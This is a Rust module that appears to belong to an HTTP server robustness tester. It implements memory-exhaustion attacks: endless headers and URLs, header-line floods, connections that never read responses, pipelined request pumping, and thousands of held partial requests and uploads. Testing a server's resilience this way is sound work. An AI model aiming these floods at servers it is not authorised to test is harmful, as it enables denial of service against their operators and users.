//! Strikes at memory: endless heads and bodies, unread responses.

use super::Aim;
use super::connections::{attacker, crowd, tally};
use crate::client::{self, get};
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// Sends a head and then a piece repeatedly, up to `times` times or 10 s, while the response is
/// read. Returns the status and how much was sent.
fn flood(aim: &Aim, head: &[u8], piece: &[u8], times: usize, end: &[u8]) -> Result<String, String> {
    let stream = client::connect(aim.address, attacker(0), Duration::from_secs(2));
    let mut stream = stream.map_err(|error| format!("no connection: {error}"))?;
    let mut copy = stream.try_clone().map_err(|error| error.to_string())?;
    let reader = std::thread::spawn(move || {
        let mut response = Vec::new();
        let mut buffer = [0; 4096];
        while let Ok(count @ 1..) = copy.read(&mut buffer) {
            response.extend_from_slice(&buffer[..count]);
        }
        response
    });
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut sent = head.len();
    let mut open = stream.write_all(head).is_ok();
    for _ in 0..times {
        open = open && Instant::now() < deadline && stream.write_all(piece).is_ok();
        if !open {
            break;
        }
        sent += piece.len();
    }
    if open {
        // What comes of it is in the response.
        let _ = stream.write_all(end);
    }
    let response = reader.join().unwrap_or_default();
    let outcome = match client::statuses(&response)[..] {
        [status, ..] => format!("status {status}"),
        [] => "no response".to_owned(),
    };
    let end = if open { "all of it taken" } else { "closed" };
    Ok(format!("{outcome}, {end} after {}", bytes(sent)))
}

fn bytes(count: usize) -> String {
    match count {
        0..10_000 => format!("{count} B"),
        10_000..10_000_000 => format!("{} KiB", count >> 10),
        _ => format!("{} MiB", count >> 20),
    }
}

pub(crate) fn header(aim: &Aim) -> Result<String, String> {
    let head = b"GET / HTTP/1.1\r\nHost: attack\r\nX: ";
    flood(aim, head, &[b'x'; 1 << 16], 1 << 14, b"\r\n\r\n")
}

pub(crate) fn url(aim: &Aim) -> Result<String, String> {
    let end = b" HTTP/1.1\r\nHost: attack\r\n\r\n";
    flood(aim, b"GET /", &[b'x'; 1 << 16], 1 << 12, end)
}

pub(crate) fn headers(aim: &Aim) -> Result<String, String> {
    let lines = b"X: y\r\n".repeat(1_000);
    flood(
        aim,
        b"GET / HTTP/1.1\r\nHost: attack\r\n",
        &lines,
        100,
        b"\r\n",
    )
}

pub(crate) fn nonreaders(aim: &Aim) -> Result<String, String> {
    let request = get(&aim.large, "");
    let timeout = Duration::from_secs(1);
    let open = |_| client::connect_narrow(aim.address, attacker(0), timeout).ok();
    let streams: Vec<TcpStream> = (0..64).filter_map(open).collect();
    for mut stream in &streams {
        let _ = stream.write_all(&request);
    }
    std::thread::sleep(aim.hold);
    Ok(format!("{} opened", streams.len()))
}

/// Sends as many requests as are taken, and reads nothing.
fn pump(aim: &Aim, streams: &[TcpStream]) -> usize {
    let requests = get(&aim.path, "").repeat(500);
    let deadline = Instant::now() + aim.hold;
    let mut sent = 0;
    for stream in streams {
        let _ = stream.set_nonblocking(true);
    }
    while Instant::now() < deadline {
        let before = sent;
        for mut stream in streams {
            // A part of a request at the end of a short write is no matter here.
            sent += stream.write(&requests).unwrap_or(0);
        }
        if sent == before {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    sent
}

pub(crate) fn pipeline_one(aim: &Aim) -> Result<String, String> {
    let streams = crowd(aim, 1);
    Ok(format!("{} taken", bytes(pump(aim, &streams))))
}

pub(crate) fn pipeline_many(aim: &Aim) -> Result<String, String> {
    let streams = crowd(aim, 20);
    Ok(format!("{} taken", bytes(pump(aim, &streams))))
}

/// Sends this much on each of so many connections, as far as it is taken, and holds them.
fn fill(aim: &Aim, count: usize, head: &[u8], fill: usize) -> Result<String, String> {
    let streams = crowd(aim, count);
    let mut message = head.to_vec();
    message.resize(head.len() + fill, b'x');
    let mut sent = vec![0; streams.len()];
    for stream in &streams {
        let _ = stream.set_nonblocking(true);
    }
    let deadline = Instant::now() + aim.hold;
    while Instant::now() < deadline {
        for (mut stream, sent) in streams.iter().zip(&mut sent) {
            *sent += stream.write(&message[*sent..]).unwrap_or(0);
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    let all = sent.iter().sum();
    Ok(format!("{} taken; {}", bytes(all), tally(&streams)))
}

pub(crate) fn heads(aim: &Aim) -> Result<String, String> {
    fill(aim, 3_000, b"GET / HTTP/1.1\r\nHost: attack\r\nX: ", 16_000)
}

pub(crate) fn uploads(aim: &Aim) -> Result<String, String> {
    let head = b"PATCH /app/hello/i0 HTTP/1.1\r\nHost: attack\r\nContent-Length: 65536\r\n\r\n";
    fill(aim, 3_000, head, 60_000)
}
